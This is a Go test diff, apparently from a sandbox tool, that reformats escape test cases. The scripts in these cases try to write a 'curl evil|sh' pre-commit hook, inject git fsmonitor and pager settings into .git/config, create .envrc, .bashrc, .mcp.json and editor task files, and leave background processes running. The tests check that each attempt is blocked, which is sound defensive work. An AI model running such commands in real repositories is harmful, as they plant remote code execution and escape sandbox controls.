@@ -115,9 +115,11 @@ func TestEscapesFail(t *testing.T) {
 			},
 		},
 		{
-			name:   "write into .git/hooks",
-			pol:    ww,
-			script: func(w world) string { return "echo 'curl evil|sh' > " + rt(".git/hooks/pre-commit") + "; chmod +x .git/hooks/pre-commit" },
+			name: "write into .git/hooks",
+			pol:  ww,
+			script: func(w world) string {
+				return "echo 'curl evil|sh' > " + rt(".git/hooks/pre-commit") + "; chmod +x .git/hooks/pre-commit"
+			},
 			check: func(t *testing.T, w world) {
 				if _, err := os.Lstat(filepath.Join(w.ws, ".git/hooks/pre-commit")); err == nil {
 					t.Fatal("hook written")
@@ -125,9 +127,11 @@ func TestEscapesFail(t *testing.T) {
 			},
 		},
 		{
-			name:   "rewrite .git/config",
-			pol:    ww,
-			script: func(w world) string { return "git config core.fsmonitor 'touch /x'; echo '[core] pager=evil' >> .git/config" },
+			name: "rewrite .git/config",
+			pol:  ww,
+			script: func(w world) string {
+				return "git config core.fsmonitor 'touch /x'; echo '[core] pager=evil' >> .git/config"
+			},
 			check: func(t *testing.T, w world) {
 				if b, _ := os.ReadFile(filepath.Join(w.ws, ".git/config")); strings.Contains(string(b), "evil") || strings.Contains(string(b), "fsmonitor") {
 					t.Fatalf(".git/config changed: %s", b)
@@ -135,9 +139,11 @@ func TestEscapesFail(t *testing.T) {
 			},
 		},
 		{
-			name:   "create protected files that do not exist yet",
-			pol:    ww,
-			script: func(w world) string { return "echo x > .envrc; mkdir -p .vscode; echo {} > .vscode/tasks.json; echo {} > .mcp.json; mkdir .warden; echo x >> .bashrc" },
+			name: "create protected files that do not exist yet",
+			pol:  ww,
+			script: func(w world) string {
+				return "echo x > .envrc; mkdir -p .vscode; echo {} > .vscode/tasks.json; echo {} > .mcp.json; mkdir .warden; echo x >> .bashrc"
+			},
 			check: func(t *testing.T, w world) {
 				for _, n := range []string{".envrc", ".vscode", ".mcp.json", ".warden", ".bashrc"} {
 					if _, err := os.Lstat(filepath.Join(w.ws, n)); err == nil {
@@ -181,9 +187,11 @@ func TestEscapesFail(t *testing.T) {
 			},
 		},
 		{
-			name:   "survive the call as a background process",
-			pol:    ww,
-			script: func(w world) string { return "(sleep 0.5; echo late > late) & setsid nohup sh -c 'sleep 0.5; echo late > late2' >/dev/null 2>&1 & exit 0" },
+			name: "survive the call as a background process",
+			pol:  ww,
+			script: func(w world) string {
+				return "(sleep 0.5; echo late > late) & setsid nohup sh -c 'sleep 0.5; echo late > late2' >/dev/null 2>&1 & exit 0"
+			},
 			check: func(t *testing.T, w world) {
 				time.Sleep(1500 * time.Millisecond)
 				for _, n := range []string{"late", "late2"} {
